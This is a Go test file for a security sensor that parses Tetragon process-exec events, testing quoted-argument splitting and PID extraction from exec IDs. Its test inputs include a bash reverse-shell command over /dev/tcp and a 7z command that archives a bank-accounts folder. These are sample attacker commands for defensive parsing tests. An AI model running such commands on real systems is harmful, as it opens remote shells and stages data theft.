package sensor

import (
	"encoding/base64"
	"fmt"
	"testing"
)

// tgExecID is a Tetragon exec_id: base64 of node:start:pid.
func tgExecID(node string, pid int) string {
	return base64.StdEncoding.EncodeToString([]byte(fmt.Sprintf("%s:9000%d:%d", node, pid, pid)))
}

func TestSplitQuoted(t *testing.T) {
	cases := []struct{ in, want string }{
		{``, `[]`},
		{`-g "daemon off;"`, `["-g" "daemon off;"]`},
		{`-c "7z a s3nsitiv3.7z ../ops_bank_accounts/"`, `["-c" "7z a s3nsitiv3.7z ../ops_bank_accounts/"]`},
		{`  a   b  `, `["a" "b"]`},
		{`it's "a b`, `["it's" "a b"]`}, // single quotes are literal; an open quote runs to the end
		{`""`, `[""]`},
		{`C:\dir x`, `["C:\\dir" "x"]`},
	}
	for _, c := range cases {
		got := splitQuoted(c.in)
		if got == nil {
			got = []string{}
		}
		if s := fmt.Sprintf("%q", got); s != c.want {
			t.Errorf("splitQuoted(%q) = %s, want %s", c.in, s, c.want)
		}
	}
}

// TestTgArgs: a shell's command string holding double quotes comes back
// whole; other binaries and unambiguous strings split as before.
func TestTgArgs(t *testing.T) {
	cases := []struct{ bin, in, want string }{
		{"/bin/sh", `-c "/bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1""`, `["-c" "/bin/bash -c \"bash -i >& /dev/tcp/127.0.0.1/4445 0>&1\""]`},
		{"/usr/bin/dash", `-ec "echo "a b" > /tmp/x"`, `["-ec" "echo \"a b\" > /tmp/x"]`},
		{"/usr/bin/dash", `-c "id 2>&1"`, `["-c" "id 2>&1"]`},
		{"/usr/bin/dash", `-c id`, `["-c" "id"]`},
		{"/usr/bin/dash", `/tmp/x.sh "a b" c`, `["/tmp/x.sh" "a b" "c"]`},
		{"/usr/bin/python3", `-c "print("a b")"`, `["-c" "print(a" "b)"]`}, // not a shell: left to splitQuoted
	}
	for _, c := range cases {
		if got := fmt.Sprintf("%q", tgArgs(c.bin, c.in)); got != c.want {
			t.Errorf("tgArgs(%s, %s) = %s, want %s", c.bin, c.in, got, c.want)
		}
	}
}

func TestExecIDPID(t *testing.T) {
	cases := map[string]int{
		"bWluaWt1YmU6ODAwNDY4NjY0ODA0OjEyNzAw": 12700, // minikube:800468664804:12700
		tgExecID("n", 42):                      42,
		"":                                     0,
		"!!!":                                  0,
		base64.StdEncoding.EncodeToString([]byte("n:1:-5")):          0,
		base64.StdEncoding.EncodeToString([]byte("n:1:99999999999")): 0,
	}
	for id, want := range cases {
		if got := execIDPID(id); got != want {
			t.Errorf("execIDPID(%q) = %d, want %d", id, got, want)
		}
	}
}
